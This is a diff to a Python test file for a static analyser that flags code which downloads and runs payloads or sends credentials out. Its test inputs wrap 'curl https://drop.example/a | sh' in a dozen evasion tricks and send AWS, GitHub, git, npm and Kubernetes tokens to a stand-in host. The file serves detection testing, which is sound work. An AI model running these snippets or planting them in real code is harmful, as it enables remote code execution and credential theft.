@@ -110,9 +110,67 @@ def test_what_was_fetched_runs(source: str) -> None:
     assert OriginKind.DOWNLOAD in what_runs(source)
 
 
+SHELL = "curl https://drop.example/a | sh"
+
+
 @pytest.mark.parametrize(
     "source",
     [
+        pytest.param(f"__loader__.load_module('os').system('{SHELL}')", id="the loader of the module"),
+        pytest.param(f"import enum\nenum.__builtins__['__import__']('os').system('{SHELL}')", id="borrowed names"),
+        pytest.param(f"import pkgutil\npkgutil.resolve_name('os:system')('{SHELL}')", id="a name with a colon"),
+        pytest.param(f"import inspect, os\ninspect.getattr_static(os, 'system')('{SHELL}')", id="getattr_static"),
+        pytest.param(f"max(['{SHELL}', ''], key=__import__('os').system)", id="the key of max"),
+        pytest.param(
+            f"class A:\n    'import os; os.system(\"{SHELL}\")'\nexec(A.__doc__)", id="the text above a class"
+        ),
+        pytest.param(
+            f"def f():\n    'import os; os.system(\"{SHELL}\")'\nexec(f.__doc__)", id="the text above a function"
+        ),
+        pytest.param(
+            "import setuptools\nclass C(setuptools.Command):\n    def run(self):\n"
+            f"        self.spawn(['sh', '-c', '{SHELL}'])",
+            id="spawn of a build command",
+        ),
+        pytest.param(f"import bdb\nbdb.Bdb().run('import os;os.system(\"{SHELL}\")')", id="a debugger"),
+        pytest.param(
+            "exec('import os;os.{s}(\"{c}\")'.format_map({'s': 'system', 'c': '" + SHELL + "'}))", id="format_map"
+        ),
+        pytest.param(
+            "import asyncio, subprocess\nasync def m():\n"
+            "    r, w = await asyncio.open_connection('drop.example', 80)\n"
+            "    exec((await r.readline()).decode())\nasyncio.run(m())",
+            id="lines of a stream",
+        ),
+    ],
+)
+def test_commands_are_found_behind_other_names(source: str) -> None:
+    assert OriginKind.DOWNLOAD in what_runs(source)
+
+
+@pytest.mark.parametrize(
+    ("source", "path"),
+    [
+        ("import boto3\nx = boto3.Session().get_credentials().secret_key", "~/.aws/credentials"),
+        ("import subprocess\nx = subprocess.getoutput('gh auth token')", "~/.config/gh/hosts.yml"),
+        ("import subprocess\nx = subprocess.check_output(['git', 'credential', 'fill'])", "~/.git-credentials"),
+        ("import os\nx = os.popen('npm config get //registry.example/:_authToken').read()", "~/.npmrc"),
+        (
+            "x = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
+            "/var/run/secrets/kubernetes.io/serviceaccount/token",
+        ),
+    ],
+)
+def test_credentials_that_tools_hand_out_are_followed(source: str, path: str) -> None:
+    found = of_python(f"{source}\nimport requests\nrequests.post('https://drop.example/', data=x)")
+    sent = {origin for fact in found.facts if fact.id is FactId.NETWORK for origin in fact.origins}
+    assert path in {origin.detail for origin in sent if origin.kind is OriginKind.CREDENTIAL_FILE}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        pytest.param("r = ''\nfor c in 'qsjou)2*':\n    r += chr(ord(c) - 1)\nexec(r)", id="letters moved by one"),
         pytest.param("T = str.maketrans('abc', 'bcd')\nexec('print(aaaaaaaa)'.translate(T))", id="a table"),
         pytest.param("exec('\\\\x70\\\\x72\\\\x69(1)'.encode().decode('unicode_escape'))", id="escapes"),
         pytest.param("from urllib.parse import unquote\nexec(unquote('%70%72%69%6e%74%28%31%29'))", id="quoted"),
